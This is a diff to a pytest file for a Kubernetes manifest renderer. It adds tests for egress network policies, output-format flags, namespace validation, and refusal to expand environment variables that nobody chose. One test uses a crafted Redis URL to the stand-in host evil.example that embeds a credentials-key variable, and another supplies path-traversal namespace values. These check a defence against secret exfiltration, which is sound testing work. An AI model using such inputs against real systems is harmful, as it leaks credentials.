@@ -4,6 +4,7 @@ object is labelled and restricted-profile ready, and no password leaves render w
 
 from __future__ import annotations
 
+import json
 import re
 import tomllib
 from dataclasses import replace
@@ -17,7 +18,7 @@ from typer.testing import CliRunner
 from provisioner.cli.app import app
 from provisioner.kube.crd import crd_yaml
 from provisioner.kube.credentials import derive_credentials
-from provisioner.kube.render import Rendered, RenderOptions, object_name, render
+from provisioner.kube.render import Rendered, RenderOptions, VariableRefused, object_name, render
 from provisioner.spec.loader import load_products, load_text
 from provisioner.spec.models import DataProduct
 
@@ -66,7 +67,8 @@ def test_each_example_gets_its_objects(path: Path) -> None:
     managed = [s for s in product.spec.stores if s.managed]
     assert kinds.count("ServiceAccount") == kinds.count("ConfigMap") == 1
     assert kinds.count("Deployment") == len(product.spec.stores)
-    assert kinds.count("StatefulSet") == kinds.count("Service") == kinds.count("NetworkPolicy") == len(managed)
+    assert kinds.count("StatefulSet") == kinds.count("Service") == len(managed)
+    assert kinds.count("NetworkPolicy") == len(managed) + len(product.spec.stores)  # ingress of stores, egress of consumers
     assert kinds.count("Secret") == 0
     assert len(rendered.secrets_to_create) == len(managed)
     for deployment in (o for o in rendered.objects if o["kind"] == "Deployment"):
@@ -119,7 +121,7 @@ def test_the_service_account_mounts_no_token() -> None:
 
 def test_a_store_accepts_only_its_consumers_and_readers() -> None:
     [rendered] = render([products()[-1]], options())
-    policies = [o for o in rendered.objects if o["kind"] == "NetworkPolicy"]
+    policies = [o for o in rendered.objects if o["kind"] == "NetworkPolicy" and "Ingress" in o["spec"]["policyTypes"]]
     assert policies
     for policy in policies:
         sources = policy["spec"]["ingress"][0]["from"]
@@ -133,7 +135,7 @@ def test_a_store_accepts_only_its_consumers_and_readers() -> None:
 
 def test_the_operator_namespace_in_store_policies_follows_the_option() -> None:
     [rendered] = render([products()[-1]], replace(options(), operator_namespace="platform-ops"))
-    for policy in (o for o in rendered.objects if o["kind"] == "NetworkPolicy"):
+    for policy in (o for o in rendered.objects if o["kind"] == "NetworkPolicy" and "ingress" in o["spec"]):
         peer = policy["spec"]["ingress"][0]["from"][2]
         assert peer["namespaceSelector"]["matchLabels"] == {"kubernetes.io/metadata.name": "platform-ops"}
 
@@ -154,7 +156,12 @@ def test_long_names_are_shortened_with_a_hash() -> None:
 
 
 def _with_url_store(url: str) -> DataProduct:
-    text = f"""
+    specs, findings = load_text(URL_SPEC.format(url=url))
+    assert not findings, findings
+    return specs[0].product
+
+
+URL_SPEC = """
 apiVersion: provisioner.dev/v1alpha1
 kind: DataProduct
 metadata: {{name: orders, namespace: shop}}
@@ -168,9 +175,6 @@ spec:
     - name: db
       postgres: {{connection: {{secretRef: {{name: shop-db, key: url}}}}}}
 """
-    specs, findings = load_text(text)
-    assert not findings, findings
-    return specs[0].product
 
 
 def _rendered_text(rendered: list[Rendered]) -> str:
@@ -196,6 +200,38 @@ def test_an_env_password_is_expanded_only_into_the_secret() -> None:
     for obj in rendered[0].objects:
         assert (CANARY in yaml.safe_dump(obj)) == (obj["kind"] == "Secret")
     assert CANARY not in _rendered_text(render([product], options(environ={"CACHE_PASSWORD": CANARY})))
+
+
+def test_a_variable_nobody_chose_is_refused_not_read_from_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
+    """The spec's author picks the name; only the renderer's choice (environ) may be expanded."""
+    monkeypatch.setenv("PROVISIONER_CREDENTIALS_KEY", CANARY)
+    product = _with_url_store("redis://evil.example:6379/0?k=${PROVISIONER_CREDENTIALS_KEY}")
+    for environ in (None, {}, {"CACHE_PASSWORD": "x"}):
+        with pytest.raises(VariableRefused) as refused:
+            render([product], options(with_secrets=True, environ=environ))
+        assert refused.value.path == "spec.stores[0].redis.connection.url"
+        assert refused.value.variable == "PROVISIONER_CREDENTIALS_KEY"
+        assert CANARY not in str(refused.value)
+    # Without Secrets the URL is not rendered at all, so nothing is refused.
+    assert CANARY not in _rendered_text(render([product], options()))
+
+
+def test_render_expands_only_variables_named_with_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    spec = tmp_path / "orders.yaml"
+    spec.write_text(URL_SPEC.format(url="redis://:${CACHE_PASSWORD}@redis.shop:6379/0?k=${CI_TOKEN}"))
+    monkeypatch.setenv("CACHE_PASSWORD", CANARY)
+    monkeypatch.setenv("CI_TOKEN", "ci-token-canary")
+    args = ["render", str(spec), "--kafka-bootstrap", "kafka:9092", "--with-secrets", "--env", "CACHE_PASSWORD"]
+    refused = CliRunner().invoke(app, args)
+    assert refused.exit_code != 0
+    assert f"{spec}:11:33: " in refused.stderr and "spec.stores[0].redis.connection.url" in refused.stderr
+    assert "${CI_TOKEN}" in refused.stderr and "ci-token-canary" not in refused.stdout + refused.stderr
+    both = CliRunner().invoke(app, [*args, "--env", "CI_TOKEN"])
+    assert both.exit_code == 0, both.output
+    assert f"redis://:{CANARY}@redis.shop:6379/0?k=ci-token-canary" in both.stdout
+    monkeypatch.delenv("CI_TOKEN")
+    unset = CliRunner().invoke(app, [*args, "--env", "CI_TOKEN"])
+    assert unset.exit_code != 0 and "--env CI_TOKEN: the variable is not set" in unset.stderr
 
 
 def test_the_consumer_reads_its_url_from_a_secret_only() -> None:
@@ -230,7 +266,7 @@ def test_managed_secrets_need_with_secrets() -> None:
 
 def test_the_render_command_writes_one_file_per_product(tmp_path: Path) -> None:
     runner = CliRunner()
-    result = runner.invoke(app, ["render", str(ROOT / "specs"), "-o", str(tmp_path / "out"),
+    result = runner.invoke(app, ["render", str(ROOT / "specs"), "-d", str(tmp_path / "out"),
                                  "--kafka-bootstrap", "kafka:9092"])
     assert result.exit_code == 0, result.output
     written = sorted(p.relative_to(tmp_path / "out").as_posix() for p in (tmp_path / "out").rglob("*.yaml"))
@@ -265,3 +301,49 @@ def test_consumer_probes_ask_the_consumer_itself() -> None:
             assert container["args"][container["args"].index("--metrics-port") + 1] == str(port)
             annotations = deployment["spec"]["template"]["metadata"]["annotations"]
             assert annotations["prometheus.io/port"] == str(port)
+
+
+def test_render_output_is_a_format_and_files_go_to_output_dir(tmp_path: Path) -> None:
+    base = ["render", str(SPECS[0]), "--kafka-bootstrap", "kafka:9092"]
+    as_json = CliRunner().invoke(app, [*base, "-o", "json"])
+    assert as_json.exit_code == 0, as_json.output
+    listed = json.loads(as_json.stdout)
+    assert listed["kind"] == "List" and {o["kind"] for o in listed["items"]} >= {"Deployment", "ConfigMap"}
+    assert not (Path.cwd() / "json").exists()
+    old_usage = CliRunner().invoke(app, [*base, "-o", str(tmp_path / "manifests")])
+    assert old_usage.exit_code != 0
+    assert f"use --output-dir/-d {tmp_path / 'manifests'}" in old_usage.stderr
+    assert not (tmp_path / "manifests").exists()
+    files = CliRunner().invoke(app, [*base, "-d", str(tmp_path / "out"), "-o", "json"])
+    assert files.exit_code == 0, files.output
+    [written] = [p for p in (tmp_path / "out").rglob("*") if p.is_file()]
+    assert written.suffix == ".json" and json.loads(written.read_text())["kind"] == "List"
+
+
+@pytest.mark.parametrize("namespace", ["../../x", "a/b", "..", "UPPER", "x" * 64, ""])
+def test_render_refuses_a_namespace_that_is_not_a_dns_label(tmp_path: Path, namespace: str) -> None:
+    out = tmp_path / "deep" / "out"
+    result = CliRunner().invoke(app, ["render", str(SPECS[0]), "--kafka-bootstrap", "kafka:9092", "-d", str(out),
+                                      "--namespace", namespace])
+    assert result.exit_code != 0
+    assert result.stderr.startswith("error: --namespace: ")
+    assert list(tmp_path.rglob("*.yaml")) == []
+
+
+def test_a_consumer_may_reach_only_dns_kafka_and_its_store() -> None:
+    product = _with_url_store("redis://redis.shop:6380/0")
+    [rendered] = render([product], options(kafka_bootstrap="k1:9092,k2:9093"))
+    policies = {o["metadata"]["name"]: o["spec"] for o in rendered.objects if o["kind"] == "NetworkPolicy"}
+    egress = policies["orders-cache-consumer-egress"]
+    assert egress["policyTypes"] == ["Egress"]
+    assert egress["podSelector"]["matchLabels"]["app.kubernetes.io/instance"] == "orders-cache"
+    ports = [sorted((p["port"], p["protocol"]) for p in rule["ports"]) for rule in egress["egress"]]
+    assert ports == [[(53, "TCP"), (53, "UDP")], [(9092, "TCP"), (9093, "TCP")], [(6380, "TCP")]]
+    for rule in egress["egress"][1:]:  # addressed by host name: any address but link-local (metadata)
+        assert {"ipBlock": {"cidr": "0.0.0.0/0", "except": ["169.254.0.0/16"]}} in rule["to"]
+    assert [r["ports"] for r in policies["orders-db-consumer-egress"]["egress"]][2] == [{"port": 5432, "protocol": "TCP"}]
+    [managed] = render(products()[:1], options())
+    for policy in (o for o in managed.objects if o["kind"] == "NetworkPolicy" and "Egress" in o["spec"]["policyTypes"]):
+        store_rule = policy["spec"]["egress"][2]
+        assert [set(peer) for peer in store_rule["to"]] == [{"podSelector"}]  # its store's pods, nothing else
+        assert store_rule["to"][0]["podSelector"]["matchLabels"]["app.kubernetes.io/component"] == "store"
